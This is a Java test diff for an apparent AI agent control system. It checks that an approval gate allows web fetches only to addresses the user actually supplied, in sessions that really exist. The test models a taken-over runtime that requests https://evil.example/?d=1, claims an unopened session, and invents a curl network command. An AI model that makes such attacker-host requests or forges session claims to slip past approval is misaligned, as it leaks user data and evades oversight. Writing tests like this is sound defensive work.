@@ -3,11 +3,13 @@ package moltbot.control.approval;
 import static org.assertj.core.api.Assertions.assertThat;
 import static org.assertj.core.api.Assertions.assertThatThrownBy;
 
+import java.nio.charset.StandardCharsets;
 import java.nio.file.Path;
 import moltbot.contract.ContractException;
 import moltbot.contract.json.JsonObject;
 import moltbot.contract.label.Label;
 import moltbot.contract.link.LinkClient;
+import moltbot.contract.web.WebFetch;
 import moltbot.control.ControlProcess;
 import moltbot.control.Effects;
 import org.junit.jupiter.api.AfterEach;
@@ -30,6 +32,10 @@ class LabelTest {
         control = new ControlProcess(root);
         runtime = control.as("runtime");
         host = control.as("host");
+        host.ask(
+                "chat.submit",
+                JsonObject.with("session", "s").with("id", "m1").build(),
+                "read https://b.example/".getBytes(StandardCharsets.UTF_8));
     }
 
     @AfterEach
@@ -123,5 +129,28 @@ class LabelTest {
                         runtime.ask("policy.forget", JsonObject.with("rule", id).build()))
                 .isInstanceOfSatisfying(
                         ContractException.class, e -> assertThat(e.reason()).isEqualTo("not-allowed"));
+    }
+
+    private JsonObject fetch(String call, String session, String url) {
+        JsonObject request =
+                Effects.request(call, "web.fetch", new WebFetch(url, WebFetch.Way.NAMED).toJson()).toBuilder()
+                        .with("session", session)
+                        .build();
+        return runtime.ask("gate.authorize", request);
+    }
+
+    /// A runtime that was taken over says what it likes of who wrote an address, and of which conversation it is.
+    @Test
+    void believesOnlyWhatItHeardItself() {
+        assertThat(fetch("c1", "s", "https://b.example/").text("decision")).isEqualTo("allow");
+        assertThat(fetch("c2", "s", "https://evil.example/?d=1").text("decision"))
+                .isEqualTo("ask");
+        assertThat(fetch("c3", "nobody-opened-this", "https://b.example/").text("decision"))
+                .isEqualTo("ask");
+        JsonObject invented = Effects.request("c4", "sandbox.run", Effects.networkCommand("curl")).toBuilder()
+                .with("session", "nobody-opened-this")
+                .build();
+        runtime.ask("gate.authorize", invented);
+        assertThat(explained("c4").object("decided").object("label")).isEqualTo(Label.WORST.toJson());
     }
 }
